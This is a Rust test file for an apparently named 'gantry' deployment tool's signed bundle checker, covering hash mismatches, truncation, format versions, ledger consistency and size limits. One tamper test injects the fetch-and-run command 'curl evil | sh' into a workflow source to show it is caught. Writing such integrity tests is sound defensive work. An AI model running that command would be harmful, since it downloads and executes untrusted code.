use super::*;
use crate::approval::Person;
use crate::bundle::BundledVersion;
use crate::promotion::ledger::{Deployment, DeploymentKind};
use chrono::{TimeZone, Utc};

const V1: &str = "name: ship\nsteps:\n  - id: go\n    run: echo v1\n";
const V2: &str = "# the second\nname: ship\nsteps:\n  - id: go\n    run: echo v2\n";

fn version(n: u32, source: &str) -> BundledVersion {
    BundledVersion {
        version: n,
        content_hash: spec::parse(source).unwrap().content_hash(),
        source: source.to_owned(),
        created_at: Utc.with_ymd_and_hms(2026, 12, 1, 9, 0, 0).unwrap(),
        created_by: "alice".into(),
    }
}

fn row(env: &str, to: u32) -> Deployment {
    Deployment {
        id: format!("d-{env}-{to}"),
        workflow: "ship".into(),
        environment: env.into(),
        from_version: None,
        to_version: to,
        kind: DeploymentKind::Apply,
        actor: Person {
            id: "p1".into(),
            name: "alice".into(),
        },
        at: Utc.with_ymd_and_hms(2026, 12, 1, 9, 0, 0).unwrap(),
        reason: None,
        request_id: None,
        approvers: Vec::new(),
        checklist: None,
        freeze_break: None,
    }
}

fn payload() -> BundlePayload {
    BundlePayload {
        workflow: "ship".into(),
        environment: None,
        exported_from: "https://gantry.dev.example".into(),
        exported_at: Utc.with_ymd_and_hms(2026, 12, 2, 9, 0, 0).unwrap(),
        versions: vec![version(1, V1), version(2, V2)],
        ledger: vec![row("dev", 1), row("dev", 2)],
    }
}

/// A "signature" that is the message's length, so tests can see which
/// bytes were signed without a key.
fn fake_sign(message: &[u8]) -> String {
    format!("{:x}", message.len())
}

fn text_of(bundle: &Bundle) -> String {
    serde_json::to_string_pretty(bundle).unwrap()
}

fn good() -> Value {
    serde_json::to_value(Bundle::sign(payload(), "k1".into(), fake_sign).unwrap()).unwrap()
}

fn refusal(doc: &Value) -> BundleRefusal {
    check_bundle(&doc.to_string()).unwrap_err()
}

#[test]
fn a_signed_bundle_checks_and_its_message_is_what_was_signed() {
    let bundle = Bundle::sign(payload(), "k1".into(), fake_sign).unwrap();
    let checked = check_bundle(&text_of(&bundle)).unwrap();
    assert_eq!(
        fake_sign(checked.signed_message()),
        checked.signature().value
    );
    let verified = checked.verified();
    assert_eq!(verified.signer_key, "k1");
    assert_eq!(verified.specs.len(), 2);
    assert_eq!(verified.payload, payload());
}

#[test]
fn the_signed_message_ignores_layout_but_not_content() {
    let compact = good().to_string();
    let pretty = serde_json::to_string_pretty(&good()).unwrap();
    assert_eq!(
        check_bundle(&compact).unwrap().signed_message(),
        check_bundle(&pretty).unwrap().signed_message()
    );
    let mut changed = good();
    changed["payload"]["ledger"][0]["reason"] = "edited".into();
    assert_ne!(
        check_bundle(&changed.to_string()).unwrap().signed_message(),
        check_bundle(&compact).unwrap().signed_message()
    );
}

#[test]
fn a_changed_source_is_a_hash_mismatch_naming_the_version() {
    let mut doc = good();
    doc["payload"]["versions"][1]["source"] = V2.replace("echo v2", "curl evil | sh").into();
    let r = refusal(&doc);
    assert!(
        matches!(r, BundleRefusal::HashMismatch { version: 2, .. }),
        "{r:?}"
    );
    let message = r.to_string();
    assert!(
        message.contains("hash mismatch in version 2 of ship"),
        "{message}"
    );
}

#[test]
fn a_changed_hash_is_a_hash_mismatch_too() {
    let mut doc = good();
    doc["payload"]["versions"][0]["content_hash"] = "00".repeat(32).into();
    let r = refusal(&doc);
    assert!(
        matches!(&r, BundleRefusal::HashMismatch { version: 1, stated, .. } if stated == &"00".repeat(32)),
        "{r:?}"
    );
}

#[test]
fn truncated_text_says_so() {
    let text = good().to_string();
    for cut in [1, text.len() / 3, text.len() - 1] {
        let r = check_bundle(&text[..cut]).unwrap_err();
        assert!(matches!(r, BundleRefusal::Truncated { .. }), "{cut}: {r:?}");
        assert!(r.to_string().contains("truncated"));
    }
    assert!(matches!(
        check_bundle("").unwrap_err(),
        BundleRefusal::Truncated { .. }
    ));
}

#[test]
fn other_documents_are_not_bundles() {
    assert!(matches!(
        check_bundle("{\"a\": }").unwrap_err(),
        BundleRefusal::NotJson { .. }
    ));
    assert!(matches!(
        check_bundle("[1, 2]").unwrap_err(),
        BundleRefusal::NotABundle { .. }
    ));
    let mut doc = good();
    doc["format"] = "gantry-backup".into();
    let r = refusal(&doc);
    assert!(r.to_string().contains("\"gantry-backup\""), "{r}");
}

#[test]
fn a_newer_format_version_is_refused_naming_both() {
    let mut doc = good();
    doc["format_version"] = 2.into();
    let r = refusal(&doc);
    assert_eq!(
        r,
        BundleRefusal::UnsupportedFormatVersion {
            found: "2".into(),
            supported: 1
        }
    );
    assert!(r.to_string().contains("version 2 is not supported"));
    doc.as_object_mut().unwrap().remove("format_version");
    assert!(matches!(
        refusal(&doc),
        BundleRefusal::UnsupportedFormatVersion { .. }
    ));
}

#[test]
fn a_missing_or_unknown_field_is_malformed() {
    let mut doc = good();
    doc["payload"].as_object_mut().unwrap().remove("versions");
    let r = refusal(&doc);
    assert!(matches!(r, BundleRefusal::Malformed { .. }), "{r:?}");
    assert!(r.to_string().contains("versions"), "{r}");
    let mut doc = good();
    doc["payload"]["extra"] = true.into();
    assert!(refusal(&doc).to_string().contains("extra"));
}

#[test]
fn versions_must_be_distinct_present_and_of_the_named_workflow() {
    let mut doc = good();
    doc["payload"]["versions"] = serde_json::json!([]);
    doc["payload"]["ledger"] = serde_json::json!([]);
    assert_eq!(refusal(&doc), BundleRefusal::NoVersions);

    let mut doc = good();
    doc["payload"]["versions"][1]["version"] = 1.into();
    assert!(matches!(
        refusal(&doc),
        BundleRefusal::DuplicateVersion { version: 1, .. }
    ));

    let mut doc = good();
    doc["payload"]["workflow"] = "other".into();
    let r = refusal(&doc);
    assert!(
        matches!(&r, BundleRefusal::WorkflowNameMismatch { found, .. } if found == "ship"),
        "{r:?}"
    );

    let mut doc = good();
    doc["payload"]["versions"][0]["source"] = "name: ship\nsteps: 3\n".into();
    assert!(matches!(
        refusal(&doc),
        BundleRefusal::InvalidSource { version: 1, .. }
    ));
}

#[test]
fn ledger_rows_must_be_about_the_versions_carried() {
    let mut doc = good();
    doc["payload"]["ledger"][1]["workflow"] = "other".into();
    assert!(matches!(
        refusal(&doc),
        BundleRefusal::LedgerWorkflowMismatch { row: 1, .. }
    ));
    let mut doc = good();
    doc["payload"]["ledger"][0]["to_version"] = 7.into();
    let r = refusal(&doc);
    assert!(
        matches!(
            r,
            BundleRefusal::LedgerVersionMissing {
                row: 0,
                version: 7,
                ..
            }
        ),
        "{r:?}"
    );
}

#[test]
fn only_ed25519_signatures_are_read() {
    let mut doc = good();
    doc["signature"]["algorithm"] = "rsa".into();
    assert!(matches!(
        refusal(&doc),
        BundleRefusal::UnsupportedAlgorithm { .. }
    ));
}

#[test]
fn an_oversized_bundle_is_refused_before_parsing() {
    let text = " ".repeat(crate::bundle::MAX_BUNDLE_BYTES + 1);
    assert!(matches!(
        check_bundle(&text).unwrap_err(),
        BundleRefusal::TooLarge { .. }
    ));
}

#[test]
fn refusals_map_to_client_errors_naming_the_field() {
    let e: crate::PortError = BundleRefusal::BadSignature {
        key_id: "ab".into(),
    }
    .into();
    assert_eq!(e.http_status(), 400);
    assert!(e.to_string().starts_with("signature: "), "{e}");
    let e: crate::PortError = BundleRefusal::TooLarge { bytes: 2, limit: 1 }.into();
    assert_eq!(e.http_status(), 413);
}
